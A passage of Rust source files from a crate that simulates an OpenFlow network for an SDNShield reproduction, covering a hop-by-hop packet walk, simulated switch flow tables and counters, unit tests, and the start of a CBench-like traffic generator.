        let payload = frame.to_bytes();
        let len = payload.len();
        let (frame, ports) = {
            let shard = self
                .switches
                .get(&dpid)
                .ok_or_else(|| OfError::BadRequest(format!("unknown switch {dpid}")))?;
            Self::with_switch_mut(shard, |sw| {
                sw.apply_packet_out(in_port, frame, actions.iter().cloned(), len)
            })
        };
        self.notify_wire_packet_out(
            dpid,
            &PacketOut {
                buffer_id: BufferId::NO_BUFFER,
                in_port,
                actions: sdnshield_openflow::actions::ActionList(actions),
                payload,
            },
        );
        let mut out = Vec::new();
        for port in self.expand_ports(dpid, in_port, ports) {
            out.extend(self.emit(dpid, port, frame.clone(), MAX_HOPS));
        }
        Ok(out)
    }

    /// Carries a frame entering `dpid` on `in_port` to its destinations.
    fn walk(&self, dpid: DatapathId, in_port: PortNo, frame: EthernetFrame) -> Vec<Delivery> {
        self.step(dpid, in_port, frame, MAX_HOPS)
    }

    fn step(
        &self,
        dpid: DatapathId,
        in_port: PortNo,
        frame: EthernetFrame,
        budget: usize,
    ) -> Vec<Delivery> {
        if budget == 0 {
            return vec![Delivery::Dropped {
                dpid,
                reason: DropReason::LoopGuard,
            }];
        }
        let now = self.now();
        // Compute the forwarding decision under this switch's lock alone,
        // then release it before walking onward: the recursion into `emit`
        // takes the *next* switch's lock, and holding two at once would
        // deadlock against a walk travelling the opposite direction.
        let forwarding = {
            let Some(shard) = self.switches.get(&dpid) else {
                return vec![Delivery::Dropped {
                    dpid,
                    reason: DropReason::DanglingPort,
                }];
            };
            Self::with_switch_mut(shard, |sw| sw.process(in_port, &frame, now))
        };
        match forwarding {
            Forwarding::PacketIn => {
                let payload = frame.to_bytes();
                vec![Delivery::ToController {
                    dpid,
                    packet_in: PacketIn {
                        buffer_id: BufferId::NO_BUFFER,
                        in_port,
                        reason: PacketInReason::NoMatch,
                        payload,
                    },
                }]
            }
            Forwarding::Forward {
                frame,
                ports,
                copy_to_controller,
            } => {
                let mut out = Vec::new();
                if copy_to_controller {
                    out.push(Delivery::ToController {
                        dpid,
                        packet_in: PacketIn {
                            buffer_id: BufferId::NO_BUFFER,
                            in_port,
                            reason: PacketInReason::Action,
                            payload: frame.to_bytes(),
                        },
                    });
                }
                let resolved = self.expand_ports(dpid, in_port, ports);
                if resolved.is_empty() && out.is_empty() {
                    return vec![Delivery::Dropped {
                        dpid,
                        reason: DropReason::DropRule,
                    }];
                }
                for port in resolved {
                    out.extend(self.emit(dpid, port, frame.clone(), budget - 1));
                }
                out
            }
        }
    }

    /// Resolves reserved ports (FLOOD/ALL/IN_PORT) into concrete port lists.
    fn expand_ports(&self, dpid: DatapathId, in_port: PortNo, ports: Vec<PortNo>) -> Vec<PortNo> {
        let mut resolved = Vec::new();
        let guard = epoch::pin();
        let topology = self.topology.load(&guard);
        for p in ports {
            match p {
                PortNo::FLOOD | PortNo::ALL => {
                    if let Some(info) = topology.switch(dpid) {
                        for port in &info.ports {
                            let occupied = topology.link_from(dpid, *port).is_some()
                                || topology
                                    .hosts()
                                    .iter()
                                    .any(|h| h.switch == dpid && h.port == *port);
                            if *port != in_port && occupied {
                                resolved.push(*port);
                            }
                        }
                    }
                }
                PortNo::IN_PORT => resolved.push(in_port),
                p if p.is_reserved() => {} // LOCAL/NONE etc.: ignore
                p => resolved.push(p),
            }
        }
        resolved
    }

    /// Emits a frame out of `(dpid, port)`: to a host, the next switch, or
    /// the void. The epoch pin is released before recursing into the next
    /// switch so a long walk never holds one epoch across many hops.
    fn emit(
        &self,
        dpid: DatapathId,
        port: PortNo,
        frame: EthernetFrame,
        budget: usize,
    ) -> Vec<Delivery> {
        let (link, host) = {
            let guard = epoch::pin();
            let topology = self.topology.load(&guard);
            let link = topology.link_from(dpid, port).copied();
            let host = topology
                .hosts()
                .iter()
                .find(|h| h.switch == dpid && h.port == port)
                .cloned();
            (link, host)
        };
        if let Some(link) = link {
            return self.step(link.dst, link.dst_port, frame, budget);
        }
        if let Some(host) = host {
            return vec![Delivery::ToHost {
                mac: host.mac,
                frame,
            }];
        }
        vec![Delivery::Dropped {
            dpid,
            reason: DropReason::DanglingPort,
        }]
    }

    /// Convenience: the host record for a MAC.
    pub fn host(&self, mac: EthAddr) -> Option<Host> {
        let guard = epoch::pin();
        self.topology.load(&guard).host_by_mac(mac).cloned()
    }
}

/// A locked switch handle from [`Network::switch`]. Mutations made through
/// it are observed by later reads: dropping the guard bumps the shard's
/// version (while still holding the lock), invalidating the published RCU
/// view.
pub struct SwitchGuard<'a> {
    guard: MutexGuard<'a, SimSwitch>,
    version: &'a AtomicU64,
}

impl Deref for SwitchGuard<'_> {
    type Target = SimSwitch;
    fn deref(&self) -> &SimSwitch {
        &self.guard
    }
}

impl DerefMut for SwitchGuard<'_> {
    fn deref_mut(&mut self) -> &mut SimSwitch {
        &mut self.guard
    }
}

impl Drop for SwitchGuard<'_> {
    fn drop(&mut self) {
        // Runs before `guard` releases the mutex, so the bump is ordered
        // with the mutations it covers.
        self.version.fetch_add(1, Ordering::Release);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::topology::builders;
    use bytes::Bytes;
    use sdnshield_openflow::actions::{Action, ActionList};
    use sdnshield_openflow::flow_match::FlowMatch;
    use sdnshield_openflow::packet::TcpFlags;
    use sdnshield_openflow::types::{Ipv4, Priority};

    fn tcp(src: u64, dst: u64, dst_ip: Ipv4) -> EthernetFrame {
        EthernetFrame::tcp(
            EthAddr::from_u64(src),
            EthAddr::from_u64(dst),
            Ipv4::new(10, 0, 0, src as u8),
            dst_ip,
            1000,
            80,
            TcpFlags::default(),
            Bytes::new(),
        )
    }

    #[test]
    fn miss_everywhere_reaches_controller_once() {
        let net = Network::new(builders::linear(3), 64);
        let out = net
            .inject_from_host(tcp(1, 3, Ipv4::new(10, 0, 0, 3)))
            .unwrap();
        assert_eq!(out.len(), 1);
        match &out[0] {
            Delivery::ToController { dpid, packet_in } => {
                assert_eq!(*dpid, DatapathId(1));
                assert_eq!(packet_in.reason, PacketInReason::NoMatch);
                // Payload parses back to the original frame.
                let parsed = EthernetFrame::from_bytes(packet_in.payload.clone()).unwrap();
                assert_eq!(parsed.src, EthAddr::from_u64(1));
            }
            other => panic!("expected controller delivery, got {other:?}"),
        }
    }

    #[test]
    fn installed_path_delivers_to_host() {
        let net = Network::new(builders::linear(3), 64);
        // Install a forwarding path 1→2→3→host3 matching dst ip 10.0.0.3.
        let m = FlowMatch::default().with_ip_dst(Ipv4::new(10, 0, 0, 3));
        // Find inter-switch ports.
        let p12 = net
            .topology()
            .link_between(DatapathId(1), DatapathId(2))
            .unwrap()
            .src_port;
        let p23 = net
            .topology()
            .link_between(DatapathId(2), DatapathId(3))
            .unwrap()
            .src_port;
        let h3 = net
            .topology()
            .host_by_mac(EthAddr::from_u64(3))
            .unwrap()
            .port;
        net.apply_flow_mod(
            DatapathId(1),
            &FlowMod::add(m.clone(), Priority(10), ActionList::output(p12)),
        )
        .unwrap();
        net.apply_flow_mod(
            DatapathId(2),
            &FlowMod::add(m.clone(), Priority(10), ActionList::output(p23)),
        )
        .unwrap();
        net.apply_flow_mod(
            DatapathId(3),
            &FlowMod::add(m.clone(), Priority(10), ActionList::output(h3)),
        )
        .unwrap();
        let out = net
            .inject_from_host(tcp(1, 3, Ipv4::new(10, 0, 0, 3)))
            .unwrap();
        assert_eq!(
            out,
            vec![Delivery::ToHost {
                mac: EthAddr::from_u64(3),
                frame: tcp(1, 3, Ipv4::new(10, 0, 0, 3)),
            }]
        );
    }

    #[test]
    fn flood_reaches_all_other_hosts_and_switch_misses() {
        let net = Network::new(builders::star(3), 64);
        // Flood on every switch.
        for s in [1u64, 2, 3, 4] {
            net.apply_flow_mod(
                DatapathId(s),
                &FlowMod::add(
                    FlowMatch::any(),
                    Priority(1),
                    ActionList::output(PortNo::FLOOD),
                ),
            )
            .unwrap();
        }
        let arp = EthernetFrame::arp_request(
            EthAddr::from_u64(1),
            Ipv4::new(10, 0, 0, 1),
            Ipv4::new(10, 0, 0, 2),
        );
        let out = net.inject_from_host(arp).unwrap();
        let host_hits: Vec<_> = out
            .iter()
            .filter_map(|d| match d {
                Delivery::ToHost { mac, .. } => Some(*mac),
                _ => None,
            })
            .collect();
        assert!(host_hits.contains(&EthAddr::from_u64(2)));
        assert!(host_hits.contains(&EthAddr::from_u64(3)));
        assert!(!host_hits.contains(&EthAddr::from_u64(1)), "no hairpin");
    }

    #[test]
    fn loop_guard_terminates() {
        // Two switches forwarding to each other forever.
        let net = Network::new(builders::linear(2), 64);
        let p12 = net
            .topology()
            .link_between(DatapathId(1), DatapathId(2))
            .unwrap()
            .src_port;
        let p21 = net
            .topology()
            .link_between(DatapathId(2), DatapathId(1))
            .unwrap()
            .src_port;
        net.apply_flow_mod(
            DatapathId(1),
            &FlowMod::add(FlowMatch::any(), Priority(1), ActionList::output(p12)),
        )
        .unwrap();
        net.apply_flow_mod(
            DatapathId(2),
            &FlowMod::add(FlowMatch::any(), Priority(1), ActionList::output(p21)),
        )
        .unwrap();
        let out = net
            .inject_from_host(tcp(1, 2, Ipv4::new(10, 0, 0, 2)))
            .unwrap();
        assert!(matches!(
            out.as_slice(),
            [Delivery::Dropped {
                reason: DropReason::LoopGuard,
                ..
            }]
        ));
    }

    #[test]
    fn drop_rule_reports_drop() {
        let net = Network::new(builders::linear(2), 64);
        net.apply_flow_mod(
            DatapathId(1),
            &FlowMod::add(FlowMatch::any(), Priority(1), ActionList::drop()),
        )
        .unwrap();
        let out = net
            .inject_from_host(tcp(1, 2, Ipv4::new(10, 0, 0, 2)))
            .unwrap();
        assert!(matches!(
            out.as_slice(),
            [Delivery::Dropped {
                dpid: DatapathId(1),
                reason: DropReason::DropRule,
            }]
        ));
    }

    #[test]
    fn packet_out_injects_into_dataplane() {
        let net = Network::new(builders::linear(2), 64);
        let h2 = net.host(EthAddr::from_u64(2)).unwrap();
        let (dpid, port) = (h2.switch, h2.port);
        let frame = tcp(1, 2, Ipv4::new(10, 0, 0, 2));
        let out = net
            .inject_packet_out(dpid, PortNo::NONE, frame.clone(), [Action::Output(port)])
            .unwrap();
        assert_eq!(
            out,
            vec![Delivery::ToHost {
                mac: EthAddr::from_u64(2),
                frame,
            }]
        );
    }

    #[test]
    fn clock_advancement_expires_flows() {
        let net = Network::new(builders::linear(2), 64);
        net.apply_flow_mod(
            DatapathId(1),
            &FlowMod::add(FlowMatch::any(), Priority(1), ActionList::drop()).with_hard_timeout(5),
        )
        .unwrap();
        assert!(net.advance_clock(3).is_empty());
        let removed = net.advance_clock(3);
        assert_eq!(removed.len(), 1);
        assert_eq!(removed[0].dpid, DatapathId(1));
    }

    #[test]
    fn unknown_switch_rejected() {
        let net = Network::new(builders::linear(2), 64);
        let err = net
            .apply_flow_mod(
                DatapathId(99),
                &FlowMod::add(FlowMatch::any(), Priority(1), ActionList::drop()),
            )
            .unwrap_err();
        assert!(matches!(err, OfError::BadRequest(_)));
        assert!(net.stats(DatapathId(99), &StatsRequest::Table).is_err());
    }

    #[test]
    fn unknown_host_rejected() {
        let net = Network::new(builders::linear(2), 64);
        let err = net
            .inject_from_host(tcp(77, 2, Ipv4::new(10, 0, 0, 2)))
            .unwrap_err();
        assert!(matches!(err, OfError::BadRequest(_)));
    }

    #[test]
    fn wire_egress_mirrors_flow_mods_and_packet_outs() {
        #[derive(Default)]
        struct Capture {
            fms: Mutex<Vec<FlowMod>>,
            pos: Mutex<Vec<PacketOut>>,
        }
        impl WireEgress for Capture {
            fn flow_mod(&self, fm: &FlowMod) {
                self.fms.lock().push(fm.clone());
            }
            fn packet_out(&self, po: &PacketOut) {
                self.pos.lock().push(po.clone());
            }
        }

        let net = Network::new(builders::linear(2), 64);
        let cap = Arc::new(Capture::default());
        assert!(
            !net.register_wire_egress(DatapathId(99), cap.clone()),
            "unknown dpid rejected"
        );
        assert!(net.register_wire_egress(DatapathId(1), cap.clone()));
        assert_eq!(net.wire_egress_count(), 1);

        let fm = FlowMod::add(FlowMatch::any(), Priority(3), ActionList::drop());
        net.apply_flow_mod(DatapathId(1), &fm).unwrap();
        // A flow-mod on the *other* switch is not mirrored.
        net.apply_flow_mod(DatapathId(2), &fm).unwrap();
        assert_eq!(cap.fms.lock().as_slice(), &[fm]);

        let frame = tcp(1, 2, Ipv4::new(10, 0, 0, 2));
        net.inject_packet_out(
            DatapathId(1),
            PortNo::NONE,
            frame.clone(),
            [Action::Output(PortNo(1))],
        )
        .unwrap();
        {
            let pos = cap.pos.lock();
            assert_eq!(pos.len(), 1);
            assert_eq!(pos[0].payload, frame.to_bytes());
            assert_eq!(pos[0].actions, ActionList::output(PortNo(1)));
        }

        // The simulator shard stayed authoritative.
        assert_eq!(net.flow_count(DatapathId(1)), Some(1));

        assert!(net.deregister_wire_egress(DatapathId(1)));
        assert!(!net.deregister_wire_egress(DatapathId(1)));
        net.apply_flow_mod(
            DatapathId(1),
            &FlowMod::add(FlowMatch::any(), Priority(4), ActionList::drop()),
        )
        .unwrap();
        assert_eq!(cap.fms.lock().len(), 1, "no mirroring after deregister");
    }

    #[test]
    fn concurrent_flow_mods_on_distinct_switches() {
        use std::sync::Arc;
        let net = Arc::new(Network::new(builders::linear(4), 4096));
        std::thread::scope(|s| {
            for d in 1u64..=4 {
                let net = Arc::clone(&net);
                s.spawn(move || {
                    for i in 0..200u16 {
                        net.apply_flow_mod(
                            DatapathId(d),
                            &FlowMod::add(
                                FlowMatch::default().with_tp_dst(i + 1),
                                Priority(10),
                                ActionList::drop(),
                            ),
                        )
                        .unwrap();
                    }
                });
            }
        });
        for d in 1u64..=4 {
            assert_eq!(net.switch(DatapathId(d)).unwrap().table().len(), 200);
        }
    }
}
