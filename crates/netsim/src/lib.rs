//! Simulated OpenFlow network substrate for the SDNShield reproduction.
//!
//! The paper's evaluation ran against physical switches driven by CBench.
//! This crate substitutes a deterministic simulator (see DESIGN.md §2):
//!
//! * [`topology`] — the switch/link/host graph with shortest-path queries
//!   and builders for common shapes.
//! * [`switch`] — a simulated OpenFlow switch (flow table, ports, counters).
//! * [`network`] — the data-plane walk carrying packets hop by hop, plus a
//!   virtual clock driving flow timeouts.
//! * [`trafficgen`] — a CBench-like packet-in generator for the end-to-end
//!   benchmarks.
//!
//! # Examples
//!
//! ```
//! use sdnshield_netsim::network::{Delivery, Network};
//! use sdnshield_netsim::topology::builders;
//! use sdnshield_openflow::packet::EthernetFrame;
//! use sdnshield_openflow::types::{EthAddr, Ipv4};
//!
//! let mut net = Network::new(builders::linear(2), 1024);
//! let arp = EthernetFrame::arp_request(
//!     EthAddr::from_u64(1),
//!     Ipv4::new(10, 0, 0, 1),
//!     Ipv4::new(10, 0, 0, 2),
//! );
//! // With empty flow tables the first packet punts to the controller.
//! let deliveries = net.inject_from_host(arp)?;
//! assert!(matches!(deliveries[0], Delivery::ToController { .. }));
//! # Ok::<(), sdnshield_openflow::messages::OfError>(())
//! ```

#![warn(missing_docs)]
#![forbid(unsafe_code)]

pub mod network;
pub mod switch;
pub mod topology;
pub mod trafficgen;

pub use network::{Delivery, DropReason, Network, SwitchGuard};
pub use switch::{SimSwitch, SwitchView};
pub use topology::{Host, Link, LinkId, Topology};
pub use trafficgen::{PacketKind, TrafficGen};
