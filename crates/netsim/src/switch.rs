//! A simulated OpenFlow switch: flow table + ports + counters.

use std::collections::BTreeMap;

use sdnshield_openflow::flow_table::{FlowTable, RemovedEntry, TableSnapshot};
use sdnshield_openflow::messages::{FlowMod, OfError, PortStats, StatsReply, StatsRequest};
use sdnshield_openflow::packet::EthernetFrame;
use sdnshield_openflow::types::{DatapathId, PortNo};

/// What a switch decides to do with a packet after table lookup.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Forwarding {
    /// No matching entry: punt to the controller (packet-in).
    PacketIn,
    /// Matched an entry; forward the (possibly rewritten) frame out these
    /// ports. An empty list means the entry dropped the packet.
    Forward {
        /// The frame after applying rewrite actions.
        frame: EthernetFrame,
        /// Egress ports (reserved ports already resolved, except FLOOD which
        /// the network layer expands).
        ports: Vec<PortNo>,
        /// Whether the entry also punts a copy to the controller.
        copy_to_controller: bool,
    },
}

/// A simulated switch.
#[derive(Debug)]
pub struct SimSwitch {
    /// The switch's datapath id.
    pub dpid: DatapathId,
    table: FlowTable,
    port_stats: BTreeMap<PortNo, PortStats>,
}

impl SimSwitch {
    /// Creates a switch with the given flow-table capacity.
    pub fn new(dpid: DatapathId, table_capacity: usize) -> Self {
        SimSwitch {
            dpid,
            table: FlowTable::new(table_capacity),
            port_stats: BTreeMap::new(),
        }
    }

    /// The flow table (read-only).
    pub fn table(&self) -> &FlowTable {
        &self.table
    }

    /// Per-port counters in ascending port order (snapshot support).
    pub fn port_stats(&self) -> impl Iterator<Item = &PortStats> {
        self.port_stats.values()
    }

    /// Replaces the switch's mutable state from a snapshot: flow entries in
    /// [`FlowTable::iter`] order, the table-level lookup counters, and the
    /// per-port counters. The table capacity is preserved.
    pub fn restore_state(
        &mut self,
        entries: Vec<sdnshield_openflow::flow_table::FlowEntry>,
        lookup_count: u64,
        matched_count: u64,
        port_stats: Vec<PortStats>,
    ) {
        self.table =
            FlowTable::restore(self.table.capacity(), entries, lookup_count, matched_count);
        self.port_stats = port_stats.into_iter().map(|p| (p.port_no, p)).collect();
    }

    /// Applies a flow-mod at virtual time `now`.
    ///
    /// # Errors
    ///
    /// Propagates table errors such as [`OfError::TableFull`].
    pub fn apply_flow_mod(&mut self, fm: &FlowMod, now: u64) -> Result<Vec<RemovedEntry>, OfError> {
        self.table.apply(fm, now)
    }

    /// Expires timed-out entries.
    pub fn expire(&mut self, now: u64) -> Vec<RemovedEntry> {
        self.table.expire(now)
    }

    /// Removes every entry owned (via cookie) by the given app id.
    pub fn remove_owned_by(&mut self, owner: u16) -> Vec<RemovedEntry> {
        self.table.remove_owned_by(owner)
    }

    /// Processes a frame arriving on `in_port` at time `now`.
    pub fn process(&mut self, in_port: PortNo, frame: &EthernetFrame, now: u64) -> Forwarding {
        let len = frame.to_bytes().len();
        self.count_rx(in_port, len);
        let Some(entry) = self.table.lookup(in_port, frame, len, now) else {
            return Forwarding::PacketIn;
        };
        let (rewritten, ports, copy_to_controller) =
            apply_actions(frame.clone(), entry.actions.iter(), in_port);
        for p in &ports {
            self.count_tx(*p, len);
        }
        Forwarding::Forward {
            frame: rewritten,
            ports,
            copy_to_controller,
        }
    }

    /// Applies an action list to a frame directly (packet-out path), without
    /// a table lookup.
    pub fn apply_packet_out(
        &mut self,
        in_port: PortNo,
        frame: EthernetFrame,
        actions: impl IntoIterator<Item = sdnshield_openflow::actions::Action>,
        byte_len: usize,
    ) -> (EthernetFrame, Vec<PortNo>) {
        let collected: Vec<_> = actions.into_iter().collect();
        let (rewritten, ports, _) = apply_actions(frame, collected.iter(), in_port);
        for p in &ports {
            self.count_tx(*p, byte_len);
        }
        (rewritten, ports)
    }

    fn count_rx(&mut self, port: PortNo, len: usize) {
        let s = self.port_stats.entry(port).or_insert(PortStats {
            port_no: port,
            ..PortStats::default()
        });
        s.rx_packets += 1;
        s.rx_bytes += len as u64;
    }

    fn count_tx(&mut self, port: PortNo, len: usize) {
        if port.is_reserved() {
            return;
        }
        let s = self.port_stats.entry(port).or_insert(PortStats {
            port_no: port,
            ..PortStats::default()
        });
        s.tx_packets += 1;
        s.tx_bytes += len as u64;
    }

    /// Answers a statistics request at time `now`.
    pub fn stats(&self, req: &StatsRequest, now: u64) -> StatsReply {
        match req {
            StatsRequest::Flow(m) => StatsReply::Flow(self.table.flow_stats(m, now)),
            StatsRequest::Aggregate(m) => StatsReply::Aggregate(self.table.aggregate_stats(m)),
            StatsRequest::Port(p) => {
                let ports = if *p == PortNo::NONE {
                    self.port_stats.values().copied().collect()
                } else {
                    self.port_stats.get(p).into_iter().copied().collect()
                };
                StatsReply::Port(ports)
            }
            StatsRequest::Table => StatsReply::Table(self.table.table_stats()),
        }
    }

    /// Publishes an immutable view of the switch's mutable state, tagged
    /// with the mutation `version` it reflects. Costs one `Arc` clone per
    /// flow entry plus a copy of the (small) port-counter vector.
    pub fn view(&self, version: u64) -> SwitchView {
        SwitchView {
            dpid: self.dpid,
            version,
            table: self.table.snapshot(),
            port_stats: self.port_stats.values().copied().collect(),
        }
    }
}

/// An immutable point-in-time view of one switch, published through the
/// network's RCU cells so stats readers never take the switch lock.
#[derive(Debug, Clone)]
pub struct SwitchView {
    /// The switch's datapath id.
    pub dpid: DatapathId,
    /// The mutation version this view reflects (see `Network`'s shard
    /// versioning); readers compare it against the live counter to decide
    /// whether a rebuild is worthwhile.
    pub version: u64,
    /// The flow table at view time.
    pub table: TableSnapshot,
    /// Per-port counters in ascending port order at view time.
    pub port_stats: Vec<PortStats>,
}

impl SwitchView {
    /// Answers a statistics request from the view — same replies as
    /// [`SimSwitch::stats`] would have produced at view time.
    pub fn stats(&self, req: &StatsRequest, now: u64) -> StatsReply {
        match req {
            StatsRequest::Flow(m) => StatsReply::Flow(self.table.flow_stats(m, now)),
            StatsRequest::Aggregate(m) => StatsReply::Aggregate(self.table.aggregate_stats(m)),
            StatsRequest::Port(p) => {
                let ports = if *p == PortNo::NONE {
                    self.port_stats.clone()
                } else {
                    self.port_stats
                        .iter()
                        .filter(|s| s.port_no == *p)
                        .copied()
                        .collect()
                };
                StatsReply::Port(ports)
            }
            StatsRequest::Table => StatsReply::Table(self.table.table_stats()),
        }
    }
}

/// Applies rewrite + output actions to a frame. Returns the rewritten frame,
/// the egress ports, and whether a copy goes to the controller.
fn apply_actions<'a>(
    mut frame: EthernetFrame,
    actions: impl Iterator<Item = &'a sdnshield_openflow::actions::Action>,
    _in_port: PortNo,
) -> (EthernetFrame, Vec<PortNo>, bool) {
    use sdnshield_openflow::actions::Action;
    use sdnshield_openflow::packet::{EthPayload, IpPayload, VlanTag};

    let mut ports = Vec::new();
    let mut to_controller = false;
    for action in actions {
        match action {
            Action::Output(p) => {
                if *p == PortNo::CONTROLLER {
                    to_controller = true;
                } else {
                    ports.push(*p);
                }
            }
            Action::Enqueue { port, .. } => ports.push(*port),
            Action::SetEthSrc(a) => frame.src = *a,
            Action::SetEthDst(a) => frame.dst = *a,
            Action::SetVlan(v) => {
                frame.vlan = Some(VlanTag { vid: *v, pcp: 0 });
            }
            Action::StripVlan => frame.vlan = None,
            Action::SetIpSrc(ip) => {
                if let EthPayload::Ipv4(p) = &mut frame.payload {
                    p.src = *ip;
                }
            }
            Action::SetIpDst(ip) => {
                if let EthPayload::Ipv4(p) = &mut frame.payload {
                    p.dst = *ip;
                }
            }
            Action::SetTpSrc(port) => {
                if let EthPayload::Ipv4(p) = &mut frame.payload {
                    match &mut p.payload {
                        IpPayload::Tcp(t) => t.src_port = *port,
                        IpPayload::Udp(u) => u.src_port = *port,
                        _ => {}
                    }
                }
            }
            Action::SetTpDst(port) => {
                if let EthPayload::Ipv4(p) = &mut frame.payload {
                    match &mut p.payload {
                        IpPayload::Tcp(t) => t.dst_port = *port,
                        IpPayload::Udp(u) => u.dst_port = *port,
                        _ => {}
                    }
                }
            }
        }
    }
    (frame, ports, to_controller)
}

#[cfg(test)]
mod tests {
    use super::*;
    use bytes::Bytes;
    use sdnshield_openflow::actions::{Action, ActionList};
    use sdnshield_openflow::flow_match::FlowMatch;
    use sdnshield_openflow::packet::TcpFlags;
    use sdnshield_openflow::types::{EthAddr, Ipv4, Priority};

    fn frame() -> EthernetFrame {
        EthernetFrame::tcp(
            EthAddr::from_u64(1),
            EthAddr::from_u64(2),
            Ipv4::new(10, 0, 0, 1),
            Ipv4::new(10, 0, 0, 2),
            1234,
            80,
            TcpFlags::default(),
            Bytes::new(),
        )
    }

    #[test]
    fn miss_generates_packet_in() {
        let mut sw = SimSwitch::new(DatapathId(1), 16);
        assert_eq!(sw.process(PortNo(1), &frame(), 0), Forwarding::PacketIn);
    }

    #[test]
    fn hit_forwards_and_counts() {
        let mut sw = SimSwitch::new(DatapathId(1), 16);
        sw.apply_flow_mod(
            &FlowMod::add(FlowMatch::any(), Priority(1), ActionList::output(PortNo(2))),
            0,
        )
        .unwrap();
        match sw.process(PortNo(1), &frame(), 1) {
            Forwarding::Forward { ports, .. } => assert_eq!(ports, vec![PortNo(2)]),
            other => panic!("expected forward, got {other:?}"),
        }
        let reply = sw.stats(&StatsRequest::Port(PortNo(2)), 1);
        match reply {
            StatsReply::Port(ps) => {
                assert_eq!(ps.len(), 1);
                assert_eq!(ps[0].tx_packets, 1);
            }
            other => panic!("expected port stats, got {other:?}"),
        }
    }

    #[test]
    fn rewrite_actions_apply() {
        let mut sw = SimSwitch::new(DatapathId(1), 16);
        sw.apply_flow_mod(
            &FlowMod::add(
                FlowMatch::any(),
                Priority(1),
                ActionList(vec![
                    Action::SetIpDst(Ipv4::new(99, 99, 99, 99)),
                    Action::SetTpDst(8080),
                    Action::Output(PortNo(3)),
                ]),
            ),
            0,
        )
        .unwrap();
        match sw.process(PortNo(1), &frame(), 1) {
            Forwarding::Forward { frame, ports, .. } => {
                assert_eq!(ports, vec![PortNo(3)]);
                match frame.payload {
                    sdnshield_openflow::packet::EthPayload::Ipv4(ip) => {
                        assert_eq!(ip.dst, Ipv4::new(99, 99, 99, 99));
                        match ip.payload {
                            sdnshield_openflow::packet::IpPayload::Tcp(t) => {
                                assert_eq!(t.dst_port, 8080)
                            }
                            other => panic!("expected tcp, got {other:?}"),
                        }
                    }
                    other => panic!("expected ipv4, got {other:?}"),
                }
            }
            other => panic!("expected forward, got {other:?}"),
        }
    }

    #[test]
    fn controller_output_sets_copy_flag() {
        let mut sw = SimSwitch::new(DatapathId(1), 16);
        sw.apply_flow_mod(
            &FlowMod::add(
                FlowMatch::any(),
                Priority(1),
                ActionList(vec![
                    Action::Output(PortNo(2)),
                    Action::Output(PortNo::CONTROLLER),
                ]),
            ),
            0,
        )
        .unwrap();
        match sw.process(PortNo(1), &frame(), 1) {
            Forwarding::Forward {
                ports,
                copy_to_controller,
                ..
            } => {
                assert_eq!(ports, vec![PortNo(2)]);
                assert!(copy_to_controller);
            }
            other => panic!("expected forward, got {other:?}"),
        }
    }

    #[test]
    fn drop_entry_forwards_nowhere() {
        let mut sw = SimSwitch::new(DatapathId(1), 16);
        sw.apply_flow_mod(
            &FlowMod::add(FlowMatch::any(), Priority(1), ActionList::drop()),
            0,
        )
        .unwrap();
        match sw.process(PortNo(1), &frame(), 1) {
            Forwarding::Forward { ports, .. } => assert!(ports.is_empty()),
            other => panic!("expected forward-to-nothing, got {other:?}"),
        }
    }

    #[test]
    fn packet_out_counts_tx() {
        let mut sw = SimSwitch::new(DatapathId(1), 16);
        let f = frame();
        let len = f.to_bytes().len();
        let (_, ports) = sw.apply_packet_out(PortNo::NONE, f, [Action::Output(PortNo(4))], len);
        assert_eq!(ports, vec![PortNo(4)]);
        match sw.stats(&StatsRequest::Port(PortNo::NONE), 0) {
            StatsReply::Port(ps) => assert_eq!(ps[0].tx_packets, 1),
            other => panic!("expected port stats, got {other:?}"),
        }
    }
}
