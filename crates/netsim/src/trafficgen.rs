//! A CBench-like control-plane traffic generator.
//!
//! The paper's end-to-end experiments (§IX) drive the controller with a
//! customized CBench: emulated switches emit packet-in messages and count the
//! flow-mods coming back. This module reproduces that role. It fabricates
//! packet-ins *directly* (no data-plane walk) because CBench's fake switches
//! do the same — the controller's work per message is what's being measured.

use bytes::Bytes;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

use sdnshield_openflow::messages::{PacketIn, PacketInReason};
use sdnshield_openflow::packet::{EthernetFrame, TcpFlags};
use sdnshield_openflow::types::{BufferId, DatapathId, EthAddr, Ipv4, PortNo};

/// Kinds of packets the generator fabricates.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum PacketKind {
    /// ARP who-has broadcasts (the L2-learning workload).
    Arp,
    /// TCP SYNs to port 80 (flow-setup workload).
    TcpSyn,
}

/// A deterministic, seedable stream of packet-in events across a set of
/// emulated switches.
///
/// # Examples
///
/// ```
/// use sdnshield_netsim::trafficgen::{PacketKind, TrafficGen};
///
/// let mut generator = TrafficGen::new(4, 16, PacketKind::Arp, 42);
/// let (dpid, packet_in) = generator.next_packet_in();
/// assert!(dpid.0 >= 1 && dpid.0 <= 4);
/// assert!(!packet_in.payload.is_empty());
/// ```
#[derive(Debug)]
pub struct TrafficGen {
    num_switches: u64,
    hosts_per_switch: u64,
    kind: PacketKind,
    rng: StdRng,
    sent: u64,
}

impl TrafficGen {
    /// Creates a generator over `num_switches` emulated switches, each with
    /// `hosts_per_switch` emulated hosts, producing `kind` packets.
    ///
    /// The stream is fully determined by `seed`.
    pub fn new(num_switches: u64, hosts_per_switch: u64, kind: PacketKind, seed: u64) -> Self {
        assert!(num_switches > 0, "need at least one switch");
        assert!(hosts_per_switch > 0, "need at least one host per switch");
        TrafficGen {
            num_switches,
            hosts_per_switch,
            kind,
            rng: StdRng::seed_from_u64(seed),
            sent: 0,
        }
    }

    /// Number of packet-ins generated so far.
    pub fn generated(&self) -> u64 {
        self.sent
    }

    /// The MAC address of emulated host `h` on switch `s` (0-based).
    pub fn host_mac(&self, s: u64, h: u64) -> EthAddr {
        EthAddr::from_u64(((s + 1) << 16) | (h + 1))
    }

    /// The IP address of emulated host `h` on switch `s` (0-based).
    pub fn host_ip(&self, s: u64, h: u64) -> Ipv4 {
        Ipv4::new(10, (s + 1) as u8, 0, (h + 1) as u8)
    }

    /// Produces the next packet-in: a random source host talks to a random
    /// other host on the same emulated switch set.
    pub fn next_packet_in(&mut self) -> (DatapathId, PacketIn) {
        let s = self.rng.gen_range(0..self.num_switches);
        let src_h = self.rng.gen_range(0..self.hosts_per_switch);
        let total = self.num_switches * self.hosts_per_switch;
        let src_idx = s * self.hosts_per_switch + src_h;
        // Pick a distinct destination host from the global host space; with a
